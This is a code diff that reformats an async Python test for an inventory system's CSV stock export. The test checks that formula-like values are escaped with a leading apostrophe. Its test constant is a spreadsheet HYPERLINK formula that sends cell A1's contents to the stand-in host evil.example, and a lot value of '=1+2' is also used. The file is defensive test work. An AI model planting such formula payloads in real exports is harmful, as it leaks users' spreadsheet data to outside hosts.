@@ -17,7 +17,14 @@ HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
 
 async def test_stock_csv_writes_formula_like_text_as_text_with_one_charset(client, demo_db):
     admin = await login(client, "admin")
-    item = {"erpId": HYPERLINK, "version": 1, "gtin": "4006381333931", "name": "Catheter", "baseUnit": "EA", "lotTracked": True}
+    item = {
+        "erpId": HYPERLINK,
+        "version": 1,
+        "gtin": "4006381333931",
+        "name": "Catheter",
+        "baseUnit": "EA",
+        "lotTracked": True,
+    }
     assert (await client.post("/api/v1/erp/items", json=item, headers=admin)).status_code == 201
     # the lot as a supplier's label printed it, received into a pick location
     async with demo_db.begin() as s:
@@ -25,16 +32,38 @@ async def test_stock_csv_writes_formula_like_text_as_text_with_one_charset(clien
         location_id = await s.scalar(select(Location.id).order_by(Location.id).limit(1))
         admin_id = await s.scalar(select(User.id).where(User.username == "admin"))
         lot_id = await s.scalar(Lot.__table__.insert().values(item_id=item_id, lot="=1+2").returning(Lot.id))
-        await post_movements(s, Actor(user_id=admin_id, username="admin"), [
-            Movement("receipt", item_id=item_id, quantity=7, lot_id=lot_id, to_location_id=location_id, to_status="available")
-        ])
+        await post_movements(
+            s,
+            Actor(user_id=admin_id, username="admin"),
+            [
+                Movement(
+                    "receipt",
+                    item_id=item_id,
+                    quantity=7,
+                    lot_id=lot_id,
+                    to_location_id=location_id,
+                    to_status="available",
+                )
+            ],
+        )
 
     r = await client.get("/api/v1/erp/stock?format=csv", headers=admin)
 
     assert r.status_code == 200
     assert r.headers["content-type"] == "text/csv; charset=utf-8"
     rows = list(csv.reader(io.StringIO(r.text)))
-    assert rows[0] == ["item", "gtin", "lot", "expiry", "serial", "warehouse", "location", "status", "quantity", "reserved"]
+    assert rows[0] == [
+        "item",
+        "gtin",
+        "lot",
+        "expiry",
+        "serial",
+        "warehouse",
+        "location",
+        "status",
+        "quantity",
+        "reserved",
+    ]
     ours = [row for row in rows if row[1] == "04006381333931"]
     assert len(ours) == 1
     assert ours[0][0] == "'" + HYPERLINK
